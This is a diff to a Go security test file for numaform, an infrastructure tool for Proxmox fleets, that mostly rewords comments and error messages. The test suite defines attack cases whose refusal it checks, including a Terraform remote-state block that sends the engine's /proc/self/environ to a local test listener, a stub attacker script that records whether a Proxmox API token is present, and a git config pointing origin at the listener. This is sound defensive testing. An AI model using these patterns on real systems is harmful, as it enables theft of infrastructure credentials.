@@ -19,42 +19,44 @@ import (
 	"github.com/numaform/numaform/modules"
 )
 
-// attack is a change of a fleet's files by an attacker who can change only these.
+// attack is a change of a fleet's files by an attacker who can only change these files.
 type attack struct {
 	name string
 	edit func(w *world, f files)
-	// names is the path, or a part of it, that a refusal must name.
+	// names is the path, or part of the path, that a refusal must name.
 	names string
 	// namesBy returns that path, if it is only known after the attack.
 	namesBy func() string
 	// tree is the path of a file that only a hand-made tree can contain; edit is nil.
 	tree string
-	// only is where the attack is possible; empty means everywhere.
+	// only is the place where the attack is possible; empty means all places.
 	only place
-	// passes is set for an attack that has no effect by itself: numaform ignores it.
+	// passes is set for an attack that numaform ignores instead of refusing it.
 	passes bool
 	// left is set for an attack that has no effect in a directory.
 	left bool
 	// fresh is set for an attack on a machine without a working copy.
 	fresh bool
-	// some is set for an attack that meets two commands only. more is set for one of many
-	// similar ones: make nightly makes it, with one command, and not against the baseline.
+	// some is set for an attack that runs against two commands only. more is set for one of
+	// many similar attacks: it only runs in make nightly, with one command, and not against
+	// the baseline.
 	some, more bool
 	// command triggers the attack in a numaform that does not refuse it; default is plan.
 	command []string
 	// twice is set if the command must run twice, as in the controller.
 	twice bool
-	// huge is set for an attack by size, whose memory is measured. It is slow, and run with
-	// one engine only.
+	// huge is set for an attack by size, for which memory is measured. It is slow, so it
+	// runs with one engine only.
 	huge bool
-	// succeeded returns what is missing for a success against the baseline.
+	// succeeded describes why the attack did not succeed against the baseline, or returns
+	// "".
 	succeeded func(w *world, saw *seen) string
 }
 
 // seen is the observed effect of a command of numaform.
 type seen struct {
 	result
-	// started are the records of engines, providers and programs of the attacker.
+	// started lists the starts of engines, providers and the attacker's programs.
 	started []string
 	// connections is the number of connections to the listener, and asked the data sent
 	// over them.
@@ -77,11 +79,11 @@ func (w *world) watch(args ...string) *seen {
 func planNothing() []string  { return []string{"plan", "-f", "nothing.yaml"} }
 func applyNothing() []string { return []string{"apply", "-f", "nothing.yaml", "--auto-approve"} }
 
-// environ is an expression for the engine's environment in a form that a URL may contain.
+// environ is an expression that evaluates to the engine's environment, encoded for a URL.
 const environ = `urlencode(filebase64("/proc/self/environ"))`
 
-// remoteState returns a file of a module that sends the engine's environment to the
-// listener, without any provider.
+// remoteState returns a module's file that sends the engine's environment to the listener
+// without a provider.
 func (w *world) remoteState(mark string) string {
 	return fmt.Sprintf(`data "terraform_remote_state" "x" {
   backend = "http"
@@ -92,8 +94,8 @@ func (w *world) remoteState(mark string) string {
 `, w.listener.server.URL, mark, environ)
 }
 
-// carried returns the files of a fleet's modules, by their paths below a directory without
-// the hash, and the hash.
+// carried returns the files of a fleet's modules by their paths without the hash, and the
+// hash.
 func (f files) carried(w *world) (map[string][]byte, string) {
 	w.t.Helper()
 	content, hash := map[string][]byte{}, ""
@@ -123,23 +125,23 @@ func (f files) ownModule(w *world, node string, change func(content map[string][
 	return own
 }
 
-// resurrect restores the node file of the removed VM, so that there is something to apply.
+// resurrect restores the node file of the removed VM, so that apply has a change to make.
 func (f files) resurrect(w *world) string {
 	f.put(w.removed, string(w.removedContent))
 	return w.removed
 }
 
-// with adds a file to modules.
+// with returns a function that adds a file to modules.
 func with(name, text string) func(map[string][]byte) {
 	return func(content map[string][]byte) { content[name] = []byte(text) }
 }
 
-// evil returns a program of the attacker's that records its start and its environment.
+// evil returns an attacker's program that records its start and its environment.
 func (w *world) evil(mark string) string {
 	return fmt.Sprintf("#!/bin/sh\necho %s $(env | grep -c ^PROXMOX_VE_API_TOKEN=) >>%q\nexit 1\n", mark, w.notes())
 }
 
-// step and staged are an interrupted write of numaform's, as stored by it.
+// step and staged describe an interrupted write in numaform's format.
 type step struct {
 	Path   string `json:"path"`
 	Before []byte `json:"before"`
@@ -158,13 +160,14 @@ func (w *world) next(steps ...step) string {
 	return string(text)
 }
 
-// gitConfig returns the configuration of a working copy whose first URL is the listener's.
+// gitConfig returns the git configuration of a working copy whose first URL is the
+// listener.
 func (w *world) gitConfig() []byte {
 	return fmt.Appendf(nil, "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = %s/fleet.git\n\turl = %s\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n",
 		w.listener.server.URL, w.path("remote.git"))
 }
 
-// shown returns the attacks that were demonstrated.
+// shown returns the attacks that were demonstrated against the baseline.
 func shown() []attack {
 	providerDir := path.Join(rootDir, ".terraform/providers", generator.ProviderSource, generator.ProviderVersion, runtime.GOOS+"_"+runtime.GOARCH)
 	provider := path.Join(".numaform/work", providerDir, "terraform-provider-proxmox_v"+generator.ProviderVersion)
@@ -187,7 +190,7 @@ func shown() []attack {
 			},
 			succeeded: func(_ *world, saw *seen) string {
 				if !strings.Contains(strings.Join(saw.exposed, "\n"), "guest 2") || len(saw.guests) != 1 {
-					return fmt.Sprintf("no guest holds the token: %v", saw.exposed)
+					return fmt.Sprintf("no guest contains the token: %v", saw.exposed)
 				}
 				return ""
 			},
@@ -252,7 +255,7 @@ func shown() []attack {
 			},
 			command: applyNothing(), twice: true, succeeded: func(_ *world, saw *seen) string {
 				if !slices.Contains(leaked(saw.asked), gitCanary) {
-					return fmt.Sprintf("the listener was asked: %s\n%s", saw.asked, saw.said)
+					return fmt.Sprintf("the listener received: %s\n%s", saw.asked, saw.said)
 				}
 				return ""
 			},
@@ -271,8 +274,8 @@ func shown() []attack {
 	}
 }
 
-// clonedConfig returns the git configuration of the working copy, which an attacker can
-// guess.
+// clonedConfig returns the git configuration of the working copy, whose content an attacker
+// can guess.
 func (w *world) clonedConfig() []byte {
 	content, err := os.ReadFile(w.path("fleet", ".git", "config"))
 	if os.IsNotExist(err) {
@@ -292,23 +295,23 @@ func subModule(source string) func(w *world, f files) {
 // tokenSent checks that the listener received the Proxmox token.
 func tokenSent(_ *world, saw *seen) string {
 	if !slices.Contains(leaked(saw.asked), tokenCanary) {
-		return fmt.Sprintf("the listener was asked: %q", saw.asked)
+		return fmt.Sprintf("the listener received: %q", saw.asked)
 	}
 	return ""
 }
 
-// asked checks that the listener had any connection.
+// asked checks that the listener received a connection.
 func asked(_ *world, saw *seen) string {
 	if saw.connections == 0 {
-		return "the listener was not asked"
+		return "the listener received no connection"
 	}
 	return ""
 }
 
-// tookMemory checks that the command took more memory than any fleet needs.
+// tookMemory checks that the command used more memory than any fleet needs.
 func tookMemory(_ *world, saw *seen) string {
 	if saw.memoryMiB < maxMemoryMiB {
-		return fmt.Sprintf("it took %d MiB", saw.memoryMiB)
+		return fmt.Sprintf("it used %d MiB", saw.memoryMiB)
 	}
 	return ""
 }
@@ -326,7 +329,7 @@ func exists(name string) func(*world, *seen) string {
 	}
 }
 
-// launch runs an attack on the initial world.
+// launch restores the world and runs an attack.
 func (w *world) launch(a attack) {
 	w.t.Helper()
 	w.restore()
@@ -344,8 +347,8 @@ func (w *world) launch(a attack) {
 }
 
 // TestBaseline is the control: the demonstrated attacks succeed against the baseline. make
-// test makes them with OpenTofu in git, without the huge ones; make nightly with each engine
-// in each place.
+// test runs them with OpenTofu in git, without the huge attacks; make nightly runs them
+// with each engine in each place.
 func TestBaseline(t *testing.T) {
 	t.Parallel()
 	for name, engine := range engines(t) {
@@ -366,7 +369,7 @@ func TestBaseline(t *testing.T) {
 	}
 }
 
-// possible reports whether an attack can be run in a world with an engine.
+// possible reports whether an attack can run in a world with an engine.
 func (a *attack) possible(w *world, engine string) bool {
 	return (a.only == "" || a.only == w.place) && (!a.huge || engine == "tofu")
 }
@@ -397,7 +400,7 @@ func (w *world) succeeds(a attack) {
 	w.restoreAll()
 }
 
-// of returns the world for a subtest.
+// of returns a copy of the world for a subtest.
 func (w *world) of(t *testing.T) *world {
 	part := *w
 	part.t = t
